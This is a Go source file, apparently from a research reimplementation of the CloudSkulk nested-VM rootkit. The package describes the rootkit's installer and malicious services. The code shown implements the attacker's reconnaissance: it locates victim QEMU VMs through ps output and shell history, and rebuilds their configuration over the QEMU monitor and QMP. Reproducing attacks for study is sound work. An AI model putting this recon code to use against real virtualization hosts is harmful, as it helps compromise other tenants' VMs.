// Package core implements the paper's primary contribution: the CloudSkulk
// nested-VM rootkit. It provides the attacker's recon over the host's
// process table, shell history, and the QEMU monitor; the four-step
// installer (launch the rootkit-in-the-middle VM, nest a destination VM,
// live-migrate the victim into it, clean up and take the victim's
// identity); and the malicious services the paper describes (passive
// sniffing/VMI, active packet tampering, parasite VMs).
package core

import (
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"strconv"
	"strings"

	"cloudskulk/internal/kvm"
	"cloudskulk/internal/qemu"
)

// Errors callers match on.
var (
	ErrNoTarget    = errors.New("cloudskulk: no target VM found")
	ErrReconFailed = errors.New("cloudskulk: recon failed")
)

// ReconMethod records which recon surface produced the target config.
type ReconMethod string

// Recon surfaces, in the order the paper suggests trying them.
const (
	ReconPS      ReconMethod = "ps -ef"
	ReconHistory ReconMethod = "shell history"
)

// Recon discovers target VM configurations the way a root-privileged
// attacker does: no simulator ground truth, only the surfaces a real host
// exposes.
type Recon struct {
	Host *kvm.Host
}

// FindTarget locates a victim QEMU process and reconstructs its launch
// configuration. VMs whose names appear in exclude (e.g. the attacker's
// own) are skipped. It tries `ps -ef` first, then shell history. It does
// not consult the QEMU monitor; the installer refines the network
// picture through ConfigViaMonitor afterwards.
func (r Recon) FindTarget(exclude ...string) (qemu.Config, ReconMethod, error) {
	skip := make(map[string]bool, len(exclude))
	for _, n := range exclude {
		skip[n] = true
	}

	// Surface 1: the process table.
	for _, proc := range r.Host.OS().FindByCommand("qemu-system") {
		cfg, err := qemu.ParseCommandLine(proc.Command)
		if err != nil || skip[cfg.Name] || cfg.Incoming != "" {
			continue
		}
		return cfg, ReconPS, nil
	}

	// Surface 2: shell history (the process table may hide command
	// lines via hidepid or prctl).
	for _, line := range r.Host.OS().HistoryMatching("qemu-system") {
		cfg, err := qemu.ParseCommandLine(line)
		if err != nil || skip[cfg.Name] || cfg.Incoming != "" {
			continue
		}
		return cfg, ReconHistory, nil
	}

	return qemu.Config{}, "", ErrNoTarget
}

// ConfigViaMonitor reconstructs a VM's configuration purely from its QEMU
// monitor on the given host telnet port — the fallback the paper describes
// when ps/history are unavailable. It drives a real monitor session
// (`info name`, `info mtree`, `info qtree`, `info network`).
func (r Recon) ConfigViaMonitor(port int) (qemu.Config, error) {
	conn, err := r.Host.OpenMonitor(port)
	if err != nil {
		return qemu.Config{}, fmt.Errorf("%w: %w", ErrReconFailed, err)
	}
	defer func() { _ = conn.Close() }()
	mc := newMonitorClient(conn)
	defer mc.close()
	if _, err := mc.waitPrompt(); err != nil {
		return qemu.Config{}, fmt.Errorf("%w: greeting: %w", ErrReconFailed, err)
	}

	var cfg qemu.Config
	cfg.Machine = "pc-i440fx-2.9" // not introspectable over HMP; the era's default
	cfg.EnableKVM = true
	cfg.CPUs = 1
	cfg.MonitorPort = port

	name, err := mc.command("info name")
	if err != nil {
		return qemu.Config{}, err
	}
	cfg.Name = strings.TrimSpace(name)

	mtree, err := mc.command("info mtree")
	if err != nil {
		return qemu.Config{}, err
	}
	memMB, err := parseMtreeRAMMB(mtree)
	if err != nil {
		return qemu.Config{}, err
	}
	cfg.MemoryMB = memMB

	qtree, err := mc.command("info qtree")
	if err != nil {
		return qemu.Config{}, err
	}
	cfg.Drives = parseQtreeDrives(qtree)

	network, err := mc.command("info network")
	if err != nil {
		return qemu.Config{}, err
	}
	cfg.NetDevs = parseNetworkDevs(network)
	return cfg, nil
}

// ConfigViaQMP reconstructs a partial VM configuration from the JSON
// machine protocol on the given host port — the recon path a management-
// stack credential gives the attacker. QMP exposes name, memory, and block
// devices; network forwards still require `info network` or the command
// line, so the returned config carries a default NIC.
func (r Recon) ConfigViaQMP(port int) (qemu.Config, error) {
	conn, err := r.Host.OpenQMP(port)
	if err != nil {
		return qemu.Config{}, fmt.Errorf("%w: %w", ErrReconFailed, err)
	}
	defer func() { _ = conn.Close() }()

	dec := json.NewDecoder(conn)
	var greeting qemu.QMPGreeting
	if err := dec.Decode(&greeting); err != nil {
		return qemu.Config{}, fmt.Errorf("%w: greeting: %w", ErrReconFailed, err)
	}
	call := func(execute, args string) (json.RawMessage, error) {
		cmd := qemu.QMPCommand{Execute: execute}
		if args != "" {
			cmd.Arguments = json.RawMessage(args)
		}
		raw, err := json.Marshal(cmd)
		if err != nil {
			return nil, err
		}
		if _, err := conn.Write(append(raw, '\n')); err != nil {
			return nil, fmt.Errorf("%w: send %s: %w", ErrReconFailed, execute, err)
		}
		var resp qemu.QMPResponse
		if err := dec.Decode(&resp); err != nil {
			return nil, fmt.Errorf("%w: read %s: %w", ErrReconFailed, execute, err)
		}
		if resp.Error != nil {
			return nil, fmt.Errorf("%w: %s: %s", ErrReconFailed, execute, resp.Error.Desc)
		}
		return resp.Return, nil
	}

	if _, err := call("qmp_capabilities", ""); err != nil {
		return qemu.Config{}, err
	}
	cfg := qemu.Config{
		Machine:   "pc-i440fx-2.9",
		EnableKVM: true,
		CPUs:      1,
		QMPPort:   port,
		NetDevs:   []qemu.NetDev{{Model: "virtio-net-pci"}},
	}

	raw, err := call("query-name", "")
	if err != nil {
		return qemu.Config{}, err
	}
	var name struct {
		Name string `json:"name"`
	}
	if err := json.Unmarshal(raw, &name); err != nil {
		return qemu.Config{}, fmt.Errorf("%w: %w", ErrReconFailed, err)
	}
	cfg.Name = name.Name

	raw, err = call("query-memory-size-summary", "")
	if err != nil {
		return qemu.Config{}, err
	}
	var memory struct {
		Base int64 `json:"base-memory"`
	}
	if err := json.Unmarshal(raw, &memory); err != nil {
		return qemu.Config{}, fmt.Errorf("%w: %w", ErrReconFailed, err)
	}
	cfg.MemoryMB = memory.Base >> 20

	raw, err = call("query-block", "")
	if err != nil {
		return qemu.Config{}, err
	}
	var blocks []struct {
		File   string `json:"file"`
		Driver string `json:"driver"`
		SizeMB int64  `json:"size_mb"`
	}
	if err := json.Unmarshal(raw, &blocks); err != nil {
		return qemu.Config{}, fmt.Errorf("%w: %w", ErrReconFailed, err)
	}
	for _, b := range blocks {
		cfg.Drives = append(cfg.Drives, qemu.Drive{
			File:   b.File,
			Format: b.Driver,
			SizeMB: b.SizeMB,
		})
	}
	return cfg, nil
}

// monitorClient drives an HMP session over a conn, prompt-synchronized.
type monitorClient struct {
	conn net.Conn
	r    *bufio.Reader
}

func newMonitorClient(conn net.Conn) *monitorClient {
	return &monitorClient{conn: conn, r: bufio.NewReader(conn)}
}

const _prompt = "(qemu) "

// waitPrompt consumes output until the next prompt, returning what came
// before it.
func (m *monitorClient) waitPrompt() (string, error) {
	var b strings.Builder
	buf := make([]byte, 1)
	for !strings.HasSuffix(b.String(), _prompt) {
		if _, err := m.r.Read(buf); err != nil {
			return b.String(), err
		}
		b.Write(buf)
	}
	out := b.String()
	return strings.TrimSuffix(out, _prompt), nil
}

// command sends one line and returns its output.
func (m *monitorClient) command(line string) (string, error) {
	if _, err := fmt.Fprintf(m.conn, "%s\n", line); err != nil {
		return "", fmt.Errorf("%w: send %q: %w", ErrReconFailed, line, err)
	}
	out, err := m.waitPrompt()
	if err != nil {
		return "", fmt.Errorf("%w: read %q: %w", ErrReconFailed, line, err)
	}
	return out, nil
}

// quit ends the session without killing the VM (just closes the conn).
func (m *monitorClient) close() { _ = m.conn.Close() }

// parseMtreeRAMMB extracts the RAM size from `info mtree` output: the
// pc.ram region's end address + 1.
func parseMtreeRAMMB(out string) (int64, error) {
	for _, line := range strings.Split(out, "\n") {
		if !strings.Contains(line, "pc.ram") {
			continue
		}
		fields := strings.Fields(line)
		if len(fields) == 0 {
			continue
		}
		span := fields[0] // 0000000000000000-000000003fffffff
		_, endHex, ok := strings.Cut(span, "-")
		if !ok {
			continue
		}
		end, err := strconv.ParseInt(endHex, 16, 64)
		if err != nil {
			continue
		}
		return (end + 1) >> 20, nil
	}
	return 0, fmt.Errorf("%w: no pc.ram in mtree", ErrReconFailed)
}

// parseQtreeDrives extracts block devices from `info qtree` output.
func parseQtreeDrives(out string) []qemu.Drive {
	var drives []qemu.Drive
	for _, line := range strings.Split(out, "\n") {
		line = strings.TrimSpace(line)
		if !strings.HasPrefix(line, "drive = ") {
			continue
		}
		file := strings.Trim(strings.TrimPrefix(line, "drive = "), `"`)
		format := "raw"
		if strings.HasSuffix(file, ".qcow2") {
			format = "qcow2"
		}
		drives = append(drives, qemu.Drive{File: file, Format: format, SizeMB: 20 * 1024})
	}
	return drives
}

// parseNetworkDevs extracts NICs and host forwards from `info network`.
func parseNetworkDevs(out string) []qemu.NetDev {
	var devs []qemu.NetDev
	for _, line := range strings.Split(out, "\n") {
		trimmed := strings.TrimSpace(line)
		switch {
		case strings.Contains(trimmed, "model="):
			_, model, _ := strings.Cut(trimmed, "model=")
			devs = append(devs, qemu.NetDev{Model: strings.TrimSpace(model)})
		case strings.HasPrefix(trimmed, "hostfwd: ") && len(devs) > 0:
			// hostfwd: tcp::2222 -> :22
			rest := strings.TrimPrefix(trimmed, "hostfwd: tcp::")
			hostStr, guestStr, ok := strings.Cut(rest, " -> :")
			if !ok {
				continue
			}
			hp, err1 := strconv.Atoi(strings.TrimSpace(hostStr))
			gp, err2 := strconv.Atoi(strings.TrimSpace(guestStr))
			if err1 != nil || err2 != nil {
				continue
			}
			last := &devs[len(devs)-1]
			last.HostFwds = append(last.HostFwds, qemu.FwdRule{HostPort: hp, GuestPort: gp})
		}
	}
	return devs
}
